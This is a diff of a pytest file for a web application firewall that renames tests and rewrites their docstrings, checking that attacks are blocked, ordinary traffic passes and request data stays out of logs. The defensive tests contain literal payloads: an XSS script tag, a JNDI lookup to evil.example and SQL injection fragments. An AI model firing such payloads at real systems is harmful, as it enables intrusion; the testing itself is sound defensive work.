@@ -1,4 +1,4 @@
-"""The firewall: attacks are refused wherever they are, and no message ever is."""
+"""The firewall rejects attacks in any place, and never a message."""
 
 import json
 import os
@@ -46,8 +46,8 @@ def by_the_edge(answer: httpx.Response) -> bool:
     return told["type"] == REFUSED or "does not match its Content-Type" in told["detail"]
 
 
-def test_attacks_are_refused(client: httpx.Client) -> None:
-    """Each attack in each place is 4xx, by the edge itself but for bodies that the service takes in no form."""
+def test_attacks_are_rejected(client: httpx.Client) -> None:
+    """Each attack in each place gets 4xx by the edge itself, except for bodies that the service accepts in no form."""
     all_of_them = attacks()
     assert len(all_of_them) >= 100
 
@@ -62,8 +62,8 @@ def test_attacks_are_refused(client: httpx.Client) -> None:
     assert sum(by_edge for _, _, by_edge in answers) > 0.98 * len(answers)
 
 
-def test_without_the_attack_the_same_requests_are_not_the_firewalls(client: httpx.Client) -> None:
-    """The control: with a harmless word in the same place the firewall refuses nothing."""
+def test_harmless_words_in_the_same_places_are_accepted(client: httpx.Client) -> None:
+    """Control: with a harmless word in the same place the firewall rejects nothing."""
     refused_whatever_it_says = {"harmless in file for another field", "harmless in XML"}
     harmless = [attack for attack in attacks({"harmless": "harmless"}) if attack.name not in refused_whatever_it_says]
     answers = {attack.name: client.request(attack.method, attack.address, **attack.options) for attack in harmless}
@@ -88,8 +88,8 @@ WAYS: tuple[Callable[[str], dict[str, Any]], ...] = (
 )
 
 
-def test_messages_are_not(client: httpx.Client) -> None:
-    """2,100 ordinary messages, by every way in, are taken and come back byte for byte."""
+def test_ordinary_messages_are_accepted(client: httpx.Client) -> None:
+    """2,100 ordinary messages in every content type are accepted and come back byte for byte."""
 
     def there_and_back(numbered: tuple[int, str]) -> str | None:
         number, text = numbered
@@ -103,7 +103,7 @@ def test_messages_are_not(client: httpx.Client) -> None:
     assert wrong == []
 
 
-def test_ids_are_not(client: httpx.Client) -> None:
+def test_random_ids_are_accepted(client: httpx.Client) -> None:
     """10,000 random ids are looked up without a false alarm."""
     chance = random.Random(2)
     ids = (str(uuid.UUID(bytes=chance.randbytes(16), version=4)) for _ in range(10_000))
@@ -111,8 +111,8 @@ def test_ids_are_not(client: httpx.Client) -> None:
     assert set(statuses) == {404}
 
 
-def test_idempotency_keys_are_not(client: httpx.Client) -> None:
-    """Neither are the keys that clients make up: UUIDs, hex, base64."""
+def test_idempotency_keys_are_accepted(client: httpx.Client) -> None:
+    """The keys are those that clients make: UUIDs, hex, base64."""
     chance = random.Random(3)
     letters = string.ascii_letters + string.digits + "+/=_-.:"
     keys = ["".join(chance.choices(letters, k=chance.randint(8, 64))) for _ in range(300)]
@@ -150,20 +150,20 @@ SENT_WITH_IT = {
 
 
 @pytest.mark.parametrize("agent", BROWSERS)
-def test_browsers_are_not(client: httpx.Client, agent: str) -> None:
-    """What browsers, tools and previews send of themselves raises no alarm."""
+def test_headers_of_browsers_are_accepted(client: httpx.Client, agent: str) -> None:
+    """Headers that browsers, tools and previews send raise no alarm."""
     assert client.get("/", headers={**SENT_WITH_IT, "user-agent": agent}).status_code == 200
 
 
 @pytest.mark.parametrize("name", ["script", "jndi"])
-def test_any_header_is_looked_at(client: httpx.Client, name: str) -> None:
-    """Markup and look-ups are refused in headers that nobody knows."""
+def test_unknown_headers_are_inspected(client: httpx.Client, name: str) -> None:
+    """Markup and look-ups are rejected in unknown headers."""
     evil = {"script": "<script>alert(1)</script>", "jndi": "${jndi:ldap://evil.example/a}"}[name]
     assert client.get("/", headers={"x-whatever": evil}).json()["type"] == REFUSED
 
 
-def test_a_canary_is_in_no_log(unlimited: Stack, client: httpx.Client) -> None:
-    """Text, ids and attacks of requests that were taken, refused, malformed or too long are in no container's log."""
+def test_request_data_is_in_no_log(unlimited: Stack, client: httpx.Client) -> None:
+    """Text, ids and attacks of accepted, rejected, malformed and too long requests are in no container's log."""
     canary = f"canary{os.urandom(8).hex()}"
     evil = f"<script>{canary}</script>' OR '1'='1"
     posted = client.post("/", json={"message": f"{evil} UNION SELECT"}).json()
